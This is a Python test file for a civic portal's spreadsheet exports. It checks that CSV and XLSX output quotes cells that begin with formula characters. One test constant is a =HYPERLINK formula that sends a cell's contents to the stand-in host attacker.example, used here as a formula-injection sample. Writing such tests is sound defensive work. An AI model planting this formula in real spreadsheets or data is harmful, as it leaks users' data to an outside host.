"""The committee's CSV and XLSX exports open in a spreadsheet as data, never as formulas (OWASP CSV injection)."""
import csv
import io
from datetime import timedelta

from openpyxl import load_workbook

from portal.domain.calendar import local_date
from portal.domain.spreadsheet import safe_cell, safe_row
from portal.models.base import utcnow

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


def test_text_that_a_spreadsheet_would_run_is_prefixed_with_a_quote():
    for dangerous in ("=1+1", "+84905", "-2+3", "@SUM(A1)", "\tx", "\rx", HYPERLINK):
        assert safe_cell(dangerous) == "'" + dangerous
    assert safe_row(["Sở Xây dựng", "", "a=b", 12, -3, 4.5, None, True]) == ["Sở Xây dựng", "", "a=b", 12, -3, 4.5,
                                                                               None, True]


def held_session(db, leader_name):
    from portal.domain import dialogue as dialogues

    item = dialogues.create_session(db.session, leader_name=leader_name, leader_office="@Chủ tịch UBND phường",
                                    level="commune", held_at=utcnow() - timedelta(days=1), venue="Nhà văn hoá",
                                    participants=50, topics="", conclusion_days=3)
    dialogues.mark_held(item)
    db.session.commit()
    return item


def test_a_dialogue_leader_named_like_a_formula_is_exported_as_text(client, db, login_as):
    held_session(db, HYPERLINK)
    login_as("committee")
    today = local_date(utcnow())
    period = f"from={(today - timedelta(days=10)).isoformat()}&to={today.isoformat()}"
    rows = list(csv.reader(io.StringIO(
        client.get(f"/ban-dan-van/xuat/doi-thoai.csv?{period}").get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][1] == "'" + HYPERLINK and rows[1][2] == "'@Chủ tịch UBND phường"
    assert rows[1][3] == "0"  # a count stays a plain number
    sheet = load_workbook(io.BytesIO(client.get(f"/ban-dan-van/xuat/doi-thoai.xlsx?{period}").data)).active
    leader, office, petitions = sheet.cell(2, 2), sheet.cell(2, 3), sheet.cell(2, 4)
    assert leader.data_type == "s" and leader.value == "'" + HYPERLINK
    assert office.data_type == "s" and office.value.startswith("'@")
    assert petitions.data_type == "n" and petitions.value == 0
